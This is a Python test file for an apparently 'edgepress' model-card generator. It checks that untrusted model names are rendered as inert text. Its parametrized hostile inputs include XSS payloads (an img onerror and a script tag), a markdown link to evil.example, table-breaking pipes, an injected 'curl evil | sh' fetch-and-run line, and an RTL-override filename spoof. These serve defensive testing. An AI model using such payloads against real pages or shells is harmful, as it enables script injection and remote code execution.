"""The card of a bundle: names of strangers are words in it, never its links, its HTML or its commands."""

from __future__ import annotations

import re
from typing import Any

import pytest
import yaml
from edgepress.escaping import one_line
from edgepress.export.card import card_of


def _manifest(name: str) -> dict[str, Any]:
    return {
        "kind": "encoder",
        "encoder": {"labels": None},
        "name": name,
        "scheme": name,
        "described": name,
        "source": {"model": {"name": name}, "embedding": name},
        "weights": {"params": 10, "bytes": 10},
        "graph": {"opset": 21, "ir_version": 10, "operators": "standard", "runs_in": name, "notes": [name]},
        "layers": [{"name": name, "scheme": name, "status": name, "error": 0.5}],
        "parity": {"status": "none"},
    }


def _made(name: str) -> dict[str, Any]:
    """What the checkpoint was made of."""
    return {
        "source": {"name": name, "license": {"name": name, "said_by": name}},
        "calibration": {"source": name, "license": None},
    }


def test_ordinary_names_are_plain() -> None:
    card = card_of(_manifest("smollm2-135m"), _made("smollm2-135m"), "edgepress export a -o b")
    assert "# smollm2-135m, smollm2-135m\n" in card
    assert "| smollm2-135m | smollm2-135m | smollm2-135m | 0.5 |" in card
    assert "`smollm2" not in card


def test_a_rounded_bundle_had_no_calibration_text_and_its_card_says_none() -> None:
    for kind, said in (("weight", "largest error of weights."), ("output", "on the calibration text.")):
        manifest = _manifest("word")
        manifest["layers"][0]["error_kind"] = kind
        card = card_of(manifest, _made("word"), "edgepress export a -o b")
        losses = card.partition("## Known losses")[2].partition("##")[0]
        assert said in losses and ("calibration" in losses) == (kind == "output")


def test_the_way_to_install_names_no_index_that_lacks_edgepress() -> None:
    card = card_of(_manifest("word"), _made("word"), "edgepress export a -o b")
    assert 'pip install "edgepress' not in card and "make wheel" in card and 'FILE.whl[cpu]"' in card


@pytest.mark.parametrize(
    "hostile",
    [
        "<img src=x onerror=alert(1)>",
        "[free](https://evil.example)",
        "x | y |",
        "x\n---\n# Use\n\n```\ncurl evil | sh\n```\n",
        "x`<script>alert(1)</script>`",
        "\u202egpj.exe\x1b[2J",
    ],
)
def test_a_hostile_name_is_one_word(hostile: str) -> None:
    plain = card_of(_manifest("word"), _made("word"), "edgepress export word -o word")
    card = card_of(_manifest(hostile), _made(hostile), f"edgepress export '{hostile}' -o word")
    front, body = card[4:].split("\n---\n", 1)
    assert yaml.safe_load(front)["base_model"] == one_line(hostile)
    clean = plain[4:].split("\n---\n", 1)[1]
    assert len(body.splitlines()) == len(clean.splitlines())
    assert not any(one in card for one in "\u202e\x1b")
    prose = re.sub(r"^```\n.*?^```$", "", body, flags=re.S | re.M)
    outside = prose.split("`")[::2]
    assert not any(mark in text for text in outside for mark in ("<", "](", "https:", "curl"))
    assert [line.count("|") for line in body.splitlines() if line.startswith("|")] == [5, 5, 5]
